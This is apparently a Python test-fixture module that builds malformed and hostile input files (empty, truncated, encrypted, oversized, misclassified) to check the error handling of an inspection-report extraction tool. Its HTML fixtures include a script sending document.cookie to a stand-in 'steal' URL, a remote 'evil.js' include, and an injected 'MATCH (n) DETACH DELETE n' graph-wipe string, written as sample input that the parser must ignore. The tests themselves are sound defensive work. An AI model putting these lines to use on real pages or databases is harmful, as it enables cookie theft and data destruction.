"""A corpus of hostile and awkward input files, generated on demand: what each is and what error it must
give. Shared by the bad-input tests (extraction one file at a time, and `ikg load` of a mixed folder)."""

from __future__ import annotations

import io
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pypdf
import pypdfium2 as pdfium

# A file this large is refused by the default size limit before it is read (it is sparse: no disk used).
HUGE_BYTES = 200 * 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    name: str  # the file name it is written as
    problem: str  # a phrase the error must contain
    make: Callable[[Path], bytes | None]  # its bytes, or None when it writes the file itself


def _random_bytes(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def smallest_pdf(corpus: Path) -> Path:
    return min((corpus / "pdf").glob("*.pdf"), key=lambda p: p.stat().st_size)


def encrypted_pdf(corpus: Path) -> bytes:
    writer = pypdf.PdfWriter(clone_from=smallest_pdf(corpus))
    writer.encrypt(user_password="a secret", owner_password="another secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def scanned_pdf() -> bytes:
    """One page holding only an image: what a scanner produces, with no text layer."""
    pdf = pdfium.PdfDocument.new()
    page = pdf.new_page(595, 842)
    image = pdfium.PdfImage.new(pdf)
    bitmap = pdfium.PdfBitmap.new_native(400, 200, pdfium.raw.FPDFBitmap_BGR)
    bitmap.fill_rect((40, 40, 40, 255), 0, 0, 400, 200)
    image.set_bitmap(bitmap)
    image.set_matrix(pdfium.PdfMatrix().scale(400, 200).translate(50, 500))
    page.insert_obj(image)
    page.gen_content()
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.write(b"%PDF-1.7\n")
        file.truncate(HUGE_BYTES)


SCHOOL_REPORT = """School report

Inspection of Oakfield Primary School
Oak Lane, Anytown AB1 2CD

Inspection dates: 12 and 13 March 2019

Overall effectiveness: Good
The quality of education: Good
Behaviour and attitudes: Outstanding

What is it like to attend this school?
Pupils enjoy coming to this school. They say that teachers help them when they find work hard.
Leaders have planned the curriculum well in mathematics and English.
"""

LETTER = """14 Acacia Avenue
Sometown

3 May 2021

Dear Sir or Madam,

I am writing to complain about the bins in our street, which have not been emptied for three weeks.
Birmingham City Council has not answered my two earlier letters. I would be grateful for a reply.

Yours faithfully,
A. Resident
"""

NO_AUTHORITY = """Inspection of local authority children's services

Inspection dates: 4 to 15 March 2019

Overall effectiveness: Good

The local authority has improved its services for children since the last inspection.
"""

NO_DATE = """Inspection of Birmingham local authority children's services

The local authority has improved its services for children since the last inspection.
"""

SCRIPTS_ONLY = """<!doctype html><html><head><title>x</title>
<script>document.write("Inspection of Birmingham local authority children's services")</script></head>
<body><script>fetch('http://127.0.0.1:1/steal?c=' + document.cookie)</script>
<noscript>Inspection dates: 4 to 15 March 2019</noscript></body></html>
"""


def hostile_files(corpus: Path) -> list[Hostile]:
    pdf = smallest_pdf(corpus).read_bytes()
    first_end = pdf.index(b"%%EOF")  # a PDF updated in place has one per revision
    return [
        Hostile("empty.pdf", "empty file", lambda _: b""),
        Hostile("blank.txt", "empty file", lambda _: b" \n\n\t\n"),
        Hostile("random-bytes.pdf", "not a PDF file", lambda _: _random_bytes(20_000, 1)),
        Hostile("random-bytes.txt", "binary file, not text", lambda _: _random_bytes(20_000, 2)),
        Hostile(
            "random-bytes.html", "no inspection framework recognised", lambda _: _random_bytes(20_000, 3)
        ),
        Hostile("truncated-half.pdf", "truncated PDF", lambda _: pdf[: len(pdf) // 2]),
        Hostile("truncated-before-end.pdf", "truncated PDF", lambda _: pdf[:first_end]),
        Hostile("encrypted.pdf", "encrypted PDF", lambda _: encrypted_pdf(corpus)),
        Hostile("scanned.pdf", "no text layer", lambda _: scanned_pdf()),
        Hostile("pdf-renamed.txt", "no text layer", lambda _: scanned_pdf()),
        Hostile("scripts-only.html", "no inspection framework recognised", lambda _: SCRIPTS_ONLY.encode()),
        Hostile("school-report.txt", "not an Ofsted children's services", lambda _: SCHOOL_REPORT.encode()),
        Hostile("school-report-cp1252.txt", "not an Ofsted", lambda _: SCHOOL_REPORT.encode("cp1252")),
        Hostile("letter.txt", "not an Ofsted children's services", lambda _: LETTER.encode()),
        Hostile("no-authority.txt", "no English local authority named", lambda _: NO_AUTHORITY.encode()),
        Hostile("no-date.txt", "no inspection or publication date found", lambda _: NO_DATE.encode()),
        Hostile("nul-bytes.txt", "binary file, not text", lambda _: LETTER.encode().replace(b" ", b"\x00")),
        Hostile("huge.pdf", "over the limit", lambda path: _sparse(path)),
    ]


def write_hostile(corpus: Path, folder: Path) -> dict[Path, Hostile]:
    """Every hostile file written into `folder`; path -> what it is."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for hostile in hostile_files(corpus):
        path = folder / hostile.name
        data = hostile.make(path)
        if data is not None:
            path.write_bytes(data)
        written[path] = hostile
    return written


SCRIPTED_PAGE = """<!doctype html><html><head><title>{title}</title>
<script>var injected = "MATCH (n) DETACH DELETE n"; alert(injected)</script>
<style>p {{ color: red }}</style></head>
<body onload="alert('loaded')"><script src="http://127.0.0.1:1/evil.js"></script>
{body}
<script>document.write("<p>Leaders are outstanding in every respect, inserted by a script.</p>")</script>
</body></html>
"""
# Text that only scripts and styles of SCRIPTED_PAGE hold; none of it may reach the graph.
SCRIPT_TEXT = ("DETACH DELETE", "inserted by a script", "alert(", "color: red")


def good_variants(corpus: Path, folder: Path) -> list[Path]:
    """The seeds, some in awkward but readable forms: Windows-1252, UTF-16, HTML with scripts."""
    import html

    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for seed in sorted((corpus / "seeds").iterdir()):
        text = seed.read_text(encoding="utf-8")
        if seed.name.startswith("sefton"):
            path, data = folder / seed.name, text.encode("cp1252", errors="replace")
        elif seed.name.startswith("wolverhampton"):
            path, data = folder / seed.name, text.encode("utf-16")
        elif seed.name.startswith("solihull-2011"):
            paragraphs = "\n".join(f"<p>{html.escape(p)}</p>" for p in text.split("\n\n"))
            page = SCRIPTED_PAGE.format(title="Solihull", body=paragraphs)
            path, data = folder / seed.with_suffix(".html").name, page.encode()
        else:
            path, data = folder / seed.name, seed.read_bytes()
        path.write_bytes(data)
        out.append(path)
    return out
